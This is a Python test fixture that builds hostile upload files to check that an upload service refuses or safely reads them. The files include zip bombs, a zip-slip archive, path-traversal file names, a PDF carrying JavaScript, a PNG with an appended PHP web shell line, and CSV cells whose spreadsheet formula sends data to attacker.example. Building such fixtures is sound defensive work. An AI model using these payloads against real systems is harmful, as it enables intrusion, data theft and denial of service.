"""Hostile inputs, made at test time (a bomb is a few kilobytes, not a file in the repository).

Each entry is (name, bytes, what must happen): "refused" at upload with a reason, or
"stored" and then read without an error escaping. Audit-log entries also say what the
readers must do with the bytes: "error" (a clear error, nothing read) or "rows".
"""

from __future__ import annotations

import io
import zipfile
from dataclasses import dataclass

from openpyxl import Workbook

CONTENT_TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
MARKUP = '<script>alert(1)</script><img src="http://attacker.example/x.png"><link rel=stylesheet href="file:///etc/passwd">'


@dataclass(frozen=True)
class Hostile:
    name: str
    data: bytes
    upload: str  # "refused" or "stored"
    audit: str = ""  # for audit logs: "error" or "rows"


def _zip(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def _xlsx(rows: list[list[object]]) -> bytes:
    book = Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _pdf_with_script() -> bytes:
    return (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n"
            b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"
            b"endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")


HEADER = ("ID,Name,Org Name,Total Networks Searched,Total Devices Searched,Time Frame,License Plate,Reason,Case #,"
          "Filters,Search Time,Search Type,Text Prompt,Moderation\n")


def corpus() -> list[Hostile]:
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"x")'
    return [
        # Containers
        Hostile("bomb.docx", _zip({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": b" " * (40 << 20)}),
                "refused"),
        Hostile("bomb.xlsx", _zip({"[Content_Types].xml": CONTENT_TYPES, "xl/sharedStrings.xml": b"a" * (40 << 20)}),
                "refused"),
        Hostile("nested.zip", _zip({"inner.zip": _zip({"zeros.txt": b"\0" * (40 << 20)})}, zipfile.ZIP_STORED), "stored"),
        Hostile("slip.zip", _zip({"../../../tmp/evil.txt": b"x"}), "refused"),
        Hostile("many.zip", _zip({f"{n}.txt": b"x" for n in range(2100)}), "refused"),
        Hostile("notazip.xlsx", b"PK\x03\x04" + b"\xff" * 300, "refused"),
        # Polyglots and disguises
        Hostile("report.pdf", b"MZ\x90\x00" + b"\0" * 64 + b"%PDF-1.4", "refused"),
        Hostile("polyglot.pdf", _pdf_with_script() + _zip({"a.txt": b"zip inside"}), "stored"),
        Hostile("page.csv", ("<html><body>" + MARKUP + "</body></html>\n").encode(), "stored"),
        Hostile("image.png", b"\x89PNG\r\n\x1a\n" + b"<?php system($_GET['c']); ?>", "stored"),
        Hostile("truncated.pdf", _pdf_with_script()[:60], "stored"),
        # Names
        Hostile("../../etc/cron.d/job.csv", b"a,b\n1,2\n", "refused"),
        Hostile("C:\\Windows\\system32\\x.csv", b"a,b\n1,2\n", "refused"),
        Hostile("\x00\x1b[31mred\u202e.csv", b"a,b\n1,2\n", "stored"),
        # Garbage audit logs
        Hostile("garbage.csv", bytes(range(1, 256)) * 40, "refused", "error"),
        Hostile("header-only.csv", HEADER.encode(), "stored", "error"),
        Hostile("bad-times.csv", (HEADER + "1,a,Bend OR PD,1,1,,x,theft,,,yesterday,lookup,,\n").encode(), "stored",
                "error"),
        Hostile("huge-field.csv", (HEADER + '1,a,Bend OR PD,1,1,,x,"' + "A" * 2_000_000 + '",,,'
                                   "01/31/2025, 11:26:24 PM UTC,lookup,,\n").encode(), "stored", "rows"),
        Hostile("formula-cells.csv", (HEADER + f'1,a,"{formula}",1,1,,x,"{formula} ICE detainer",,,'
                                      "01/31/2025, 11:26:24 PM UTC,lookup,,\n").encode(), "stored", "rows"),
        Hostile("markup.csv", (HEADER + f'1,a,"{MARKUP}",1,1,,x,"{MARKUP} abortion",,,'
                               "01/31/2025, 11:26:24 PM UTC,lookup,,\n").encode(), "stored", "rows"),
        Hostile("unclosed-quote.csv", (HEADER + '1,a,"Bend OR PD,1,1,,x,theft\n').encode(), "stored", "error"),
        Hostile("ragged.xlsx", _xlsx([["not", "a"], ["log"], [None, None, "at all"]]), "stored", "error"),
        Hostile("empty-sheet.xlsx", _xlsx([]), "stored", "error"),
        Hostile("script.pdf", _pdf_with_script(), "stored", "error"),
    ]
